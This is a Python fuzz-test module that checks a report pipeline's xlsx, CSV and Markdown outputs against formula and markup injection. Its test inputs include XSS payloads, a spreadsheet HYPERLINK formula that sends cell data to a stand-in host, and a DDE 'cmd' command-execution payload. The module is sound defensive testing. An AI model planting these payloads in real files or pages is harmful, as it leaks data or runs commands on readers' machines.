"""Properties of the outputs people open in a spreadsheet or a Markdown viewer (issue #23, items 1 and 6).

Hostile text (formula starts, HTML and Markdown markup, line breaks, control characters) goes into every field
a report or an export shows: afspraak text, number, section, party, document type, gemeente, corporatie, file
names and the reasons of a change. Each example writes a store, reads it back and renders xlsx, CSV (both
dialects), the Markdown report, `extract --format csv` and `compare --format md`, then checks:

- xlsx: no formula cell, and no `<f>` in any sheet's XML;
- CSV: no cell starts with `=`, `+`, `-`, `@`, a tab or a carriage return;
- Markdown: no unescaped tag, image or link from the input, and every table row is one line.

`fuzz_text.py` runs these beside the text properties (OUTPUT_PROPERTIES).
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

FORMULA = ("=", "+", "-", "@", "\t", "\r")
MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(2)>", '<iframe src="javascript:alert(3)">',
          "![p](http://evil.example/p.png)", "[klik](javascript:alert(4))", "<b>vet</b>", "| nep | rij |",
          "\n| nep | rij |", "# kop", "`code`", "**x**", "\\", "<!-- -->", "&lt;", "\u2028", "\x1b[31m"]
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&E2,"klik")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1)", "\tgevaar", "\rgevaar", "=1", " =1"]
# Unescaped forms that must never survive into Markdown (a backslash before them makes them text)
RAW_MARKUP = ("<script", "<img", "<iframe", "![", "](javascript:", "<b>", "](http://evil", "<!--")

piece = st.one_of(st.sampled_from(MARKUP + FORMULAS), st.text(max_size=12),
                  st.text(alphabet="=+-@<>[]()!|*_`#\\\n\r\t &;:/'\"", max_size=8))
hostile = st.lists(piece, min_size=1, max_size=4).map("".join)
name_piece = hostile.map(lambda s: s.replace("/", "∕").replace("\x00", "")[:60])  # what a file name can hold


def check_outputs(texts: list[str], names: list[str], reason: str) -> None:
    """Write a store holding the hostile values, render every spreadsheet and Markdown output, check them."""
    from pipeline.report import load_report, render_markdown, write_csv, write_xlsx
    from pipeline.report.comparison import comparison_markdown
    from pipeline.report.document import write_afspraken_csv
    from pipeline.store import Pair, open_store, write_comparison, write_document
    from pipeline.types import Afspraak, Change, Comparison, Document, DocumentMeta, Reason

    with tempfile.TemporaryDirectory(prefix="afspraken-fuzz-out-") as tmp:
        folder = Path(tmp)

        def document(n: int, year: int, name: str) -> Document:
            sha = f"{n}" * 64
            meta = DocumentMeta(path=str(folder / (name or "x") ) + ".pdf", sha256=sha, pages=2, type=texts[0],
                                years=(year,), gemeenten=(texts[-1] or "g",), corporaties=(reason or "c",))
            afspraken = tuple(
                Afspraak(id=f"{sha[:12]}-{i:03d}", number=text[:10] or None, section=text[:30] or None,
                         party=text[:20] or None, page=1, text=text or "x", theme="kwaliteit",
                         theme_scores={"kwaliteit": 0.3})
                for i, text in enumerate(texts))
            return Document(meta=meta, afspraken=afspraken)

        old, new = document(1, 2022, names[0]), document(2, 2023, names[-1])
        why = Reason("quantity", reason, reason, reason, "weaker")
        comparison = Comparison(old, new, tuple(Change("weakened", o, n, 0.5, (why,))
                                                for o, n in zip(old.afspraken, new.afspraken, strict=True)))
        db = folder / "s.duckdb"
        with open_store(db) as store:
            write_document(store, old)
            write_document(store, new)
            pair = Pair(old.meta.sha256[:12], new.meta.sha256[:12], "consecutive", texts[-1] or "g", reason or "c",
                        2022, 2023)
            write_comparison(store, pair, comparison)
        data = load_report(db)
        write_xlsx(data, folder / "r.xlsx")
        _check_xlsx(folder / "r.xlsx")
        for dialect, sep in (("excel", ","), ("nl", ";")):
            for path in write_csv(data, folder / f"csv-{dialect}", dialect=dialect):
                _check_csv(path.read_bytes().decode("utf-8-sig"), sep, path.name)  # \r kept
        out = io.StringIO()
        write_afspraken_csv(new, out)
        _check_csv(out.getvalue(), ",", "extract --format csv")
        _check_markdown(render_markdown(data, report_dir=folder), "report -f md")
        _check_markdown(comparison_markdown(comparison, all_changes=True), "compare --format md")


def _check_xlsx(path: Path) -> None:
    import openpyxl

    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
    with zipfile.ZipFile(path) as z:
        for member in z.namelist():
            if member.endswith(".xml"):
                assert "<f>" not in z.read(member).decode("utf-8", "replace"), member


def _check_csv(text: str, sep: str, what: str) -> None:
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep):
        for value in row:
            assert not value.startswith(FORMULA), (what, value)


def _check_markdown(md: str, what: str) -> None:
    for raw in RAW_MARKUP:
        match = re.search(r"(?<!\\)" + re.escape(raw), md)
        assert match is None, (what, raw, md[max(0, match.start() - 80):match.end() + 80])
    for line in md.splitlines():
        if line.startswith("|"):
            assert line.rstrip().endswith("|"), (what, line)
        assert not line.startswith("| nep |"), (what, line)


OUTPUT_PROPERTIES: dict[str, tuple[st.SearchStrategy[tuple[Any, ...]], Callable[..., None]]] = {
    "spreadsheet_and_markdown_outputs": (
        st.tuples(st.lists(hostile, min_size=1, max_size=4), st.lists(name_piece, min_size=1, max_size=2), hostile),
        check_outputs),
}
